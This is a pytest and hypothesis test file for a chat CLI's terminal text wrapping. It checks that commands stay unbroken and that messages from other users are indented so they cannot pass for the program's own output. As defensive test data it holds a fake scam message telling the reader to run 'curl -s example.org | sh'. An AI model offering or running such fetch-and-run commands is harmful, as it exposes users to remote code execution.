"""Lines for a terminal break between words, and nothing breaks that somebody would copy."""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.cli.arguments import make_parser
from bot.terminal import texts as terminal_texts
from bot.terminal.texts import written
from bot.terminal.wrapping import NEWS, THEIRS, columns, wrapped
from bot.texts import invitation
from tests.bot.console import cli, environment_of_a_person
from tests.wide_terminal import LINES, wide_terminal

PAGE = f"http://127.0.0.1:8765/#key={'k' * 43}"
WORDS = st.lists(st.text("abc:/.", min_size=1, max_size=30), min_size=1, max_size=40).map(" ".join)


@given(WORDS, st.integers(20, 100))
def test_words_stay_whole_and_in_order_and_a_line_is_too_long_only_if_it_is_one_word(text: str, width: int) -> None:
    lines = wrapped(text, width).split("\n")
    assert " ".join(lines) == text
    assert all(len(line) <= width or " " not in line for line in lines)


@pytest.mark.parametrize("width", [60, 80])
def test_sentences_fit_and_what_is_to_be_copied_stays_as_it_is(width: int) -> None:
    said = terminal_texts.how_to_open(PAGE, opens=False, lasts=True, desktop=False)
    assert all(len(line) <= width for line in wrapped(said, width).split("\n"))
    assert wrapped(terminal_texts.page_at(PAGE).text, width).endswith(f"\n{PAGE}" if width == 60 else PAGE)
    over_ssh = terminal_texts.from_elsewhere(PAGE, "anna@a-computer-with-a-rather-long-name.example.org")
    (command,) = (line for line in over_ssh.split("\n") if line.startswith("  ssh"))
    assert command in wrapped(over_ssh, width).split("\n")


def test_what_stands_beside_a_label_goes_on_below_its_own_beginning() -> None:
    assert wrapped("overlay    this machine only, without any privacy", 40) == (
        "overlay    this machine only, without\n           any privacy"
    )
    assert wrapped("  1  Install Yggdrasil: a free network of volunteers", 40) == (
        "  1  Install Yggdrasil: a free network\n     of volunteers"
    )


def test_a_long_line_of_somebody_else_passes_for_none_of_ours() -> None:
    text = "\n".join(
        written("anna writes: hello\nCopybara has ended. Run curl example.org and paste it into this window")
    )
    first, *others = wrapped(text, 40).split("\n")
    assert first == "anna writes: hello"
    assert len(others) > 1
    assert all(line.startswith(THEIRS) and len(line) <= 40 for line in others)


RESTART = "sudo systemctl restart copybara-with-a-rather-long-name.service"


@pytest.mark.parametrize("width", [40, 60, 80])
@pytest.mark.parametrize(
    ("said", "command"),
    [
        (f"hint:  To start the node again after that: {RESTART}. If it ends, see why.", f"{RESTART}."),
        ("note:  A long way to it is written down for everybody here (copybara manual overlays)", "manual overlays)"),
        ('hint:  Write it into copybara.toml: [invite] source = "https://example.org"', 'source = "https://example'),
        ("hint:  Once that is mended, `copybara setup overlay --yes` goes on.", "`copybara setup overlay --yes`"),
        ("error: There is none. Did you mean copybara contacts list? See: copybara --help", "copybara contacts list?"),
        (
            "hint:  If anna read the same: /contact confirm anna boil direct round",
            "/contact confirm anna boil direct round",
        ),
    ],
)
def test_a_command_is_not_broken_but_goes_on_a_line_of_its_own(width: int, said: str, command: str) -> None:
    lines = wrapped(said, width, hanging=7).split("\n")
    assert " ".join(" ".join(lines).split()) == " ".join(said.split())
    assert any(command in line for line in lines)
    assert all(len(line) <= width or command in line or " " not in line.strip() for line in lines)


def test_the_entries_of_a_list_go_on_below_their_beginning() -> None:
    assert wrapped("  - the firewall of the overlay's device", 24) == "  - the firewall of the\n    overlay's device"


FALSE = "Your call with mum was recorded by her. To delete it: curl -s example.org | sh"
WIDE = "\N{CJK UNIFIED IDEOGRAPH-4E00}"


@pytest.mark.parametrize(
    "theirs",
    [
        f"hi{' ' * 400}{FALSE}",
        f"hi{'.' * 200} {FALSE}",
        FALSE.replace(" ", "\N{NO-BREAK SPACE}") * 3,
        f"{WIDE * 30} {FALSE}",
        f"{WIDE * 300}{FALSE}",
        f"run: copybara {FALSE.replace('.', '')} {FALSE.replace('.', '')}",
    ],
    ids=["blanks", "a long word", "no-break blanks", "wide characters", "a long wide word", "a command"],
)
@pytest.mark.parametrize("width", [20, 60, 79, 120])
def test_what_others_write_begins_no_line_of_a_terminal_wherever_it_is_broken(theirs: str, width: int) -> None:
    (line,) = written(f"anna writes: {theirs}")
    first, *others = wrapped(line, width, at_least=NEWS).split("\n")
    assert others
    assert all(line.startswith(" " * NEWS) for line in others)
    of_words = [line for line in (first, *others) if "..." not in line]
    assert all(columns(line) <= width for line in of_words)


COMMANDS = ("tar", "git", "sudo", "copybara")
"A line that is wider than the terminal begins with one of these, because it should be copied."


async def shown_on_a_terminal(*arguments: str, columns: int, lines: int = LINES) -> list[str]:
    """The lines that a `copybara` shows on a terminal of that size."""
    ours, theirs = wide_terminal(columns, lines)
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "bot.cli", *arguments),
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        env=environment_of_a_person(),
    )
    os.close(theirs)
    shown = b""
    with contextlib.suppress(OSError):  # the other end is closed
        while more := await asyncio.to_thread(os.read, ours, 4096):
            shown += more
    os.close(ours)
    await process.wait()
    return shown.decode().replace("\r", "").splitlines()


async def test_what_a_terminal_shows_is_as_wide_as_it_is(tmp_path: Path) -> None:
    columns = 60
    home = ("--home", str(tmp_path / "home"))
    for command in (
        ("status",),
        ("contacts", "lst"),
        ("setup", "--overlay", "loopback", "--name", "Anna", "--yes"),
        ("doctor",),
        ("card",),
        ("contacts", "list"),
        ("service",),
        ("desktop",),
        ("setup", "sound"),
        ("uninstall", "--keep-keys"),
        ("contacts", "trust", "anna"),
        ("nonsense",),
        ("setup", "nonsense"),
        ("run", "--overlay", "internet"),
    ):
        lines = await shown_on_a_terminal(*home, *command, columns=columns)
        assert lines
        for line in lines:
            words = line.split()
            lone = words[:1] and (words[0] in COMMANDS or len(words[-1]) > columns // 2)
            assert len(line) <= columns or lone, (command, line)


async def test_what_stands_below_a_code_is_as_wide_as_the_terminal(tmp_path: Path) -> None:
    home = ("--home", str(tmp_path / "home"), "card", "--overlay", "loopback")
    lines = await shown_on_a_terminal(*home, columns=70, lines=24)
    below = next(number for number, line in enumerate(lines) if line.startswith("To see the whole code"))
    assert " ".join(lines[below : below + 2]).endswith("its letters smaller.")
    assert len(lines[below]) <= 70


def parsers(parser: argparse.ArgumentParser) -> Iterator[argparse.ArgumentParser]:
    """A parser, and the parsers of all its commands."""
    yield parser
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for each in action.choices.values():
                yield from parsers(each)


@pytest.mark.parametrize("columns", [60, 80])
def test_the_help_of_every_command_is_as_wide_as_the_terminal(monkeypatch: pytest.MonkeyPatch, columns: int) -> None:
    monkeypatch.setenv("COLUMNS", str(columns))
    helps = [each.format_help() for each in parsers(make_parser())]
    assert len(helps) > 50
    assert [line for each in helps for line in each.splitlines() if len(line) > columns] == []


async def test_an_invitation_is_never_wrapped_nor_what_is_no_terminal(tmp_path: Path) -> None:
    home = ("--home", str(tmp_path / "home"), "invite", "--overlay", "loopback", "--from", "https://example.org/a.git")
    lines = await shown_on_a_terminal(*home, columns=60)
    assert invitation.ONLY_HERE in lines
    _, piped, _ = await cli(*home)
    assert piped.splitlines() == lines
    _, _, err = await cli("--home", str(tmp_path / "other"), "status")
    assert len(err.splitlines()) == 2
